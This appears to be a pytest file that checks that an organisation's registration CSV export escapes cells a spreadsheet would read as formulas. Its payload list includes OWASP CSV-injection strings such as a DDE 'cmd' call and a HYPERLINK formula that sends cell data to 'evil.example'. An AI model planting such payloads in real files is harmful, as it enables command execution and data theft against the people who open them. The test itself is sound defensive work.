"""Cells of an export that a spreadsheet would take for a formula."""

import csv
import io

import httpx
import pytest

from api.domain.accounts.roles import Role
from api.lib.db import Database
from tests.backend_sync.deliveries import execute
from tests.factories.client import register, sign_in
from tests.factories.world import World

# OWASP, "CSV Injection", and the wide forms that some spreadsheets read as the narrow ones.
CELLS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "=IMPORTXML(\"x\",\"//a\")",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", '=1+1";=1+1', "=1+1,=1+1",
]  # fmt: skip
_BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("column", ["contact_name", "contact_phone", "confirmation_number"])
async def test_no_cell_of_an_export_begins_like_a_formula(
    api: httpx.AsyncClient, world: World, owner: Database, column: str
) -> None:
    wanted = CELLS if column != "confirmation_number" else CELLS[:1]
    made = [(await register(api, world))["registration"]["uid"] for _ in wanted[:9]]
    headers = await sign_in(api, world.staff[Role.ADMINISTRATOR].email)
    address = f"/api/v1/organizations/{world.organization.uid}/registrations/export"
    for start in range(0, len(wanted), len(made)):
        batch = wanted[start : start + len(made)]
        for uid, cell in zip(made, batch, strict=False):
            # Behind the platform's back: some of these are refused where they come in.
            await execute(owner, f"UPDATE registration SET {column} = :cell WHERE uid = :uid", cell=cell, uid=uid)  # noqa: S608
        text = (await api.get(address, headers=headers)).text.lstrip("\ufeff")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 1 + len(made)
        assert [cell for row in rows for cell in row if cell.startswith(_BEGINNINGS)] == []
        shown = {cell for row in rows for cell in row}
        assert {f"'{cell}" for cell in batch} <= shown, "a cell has lost more than its danger"
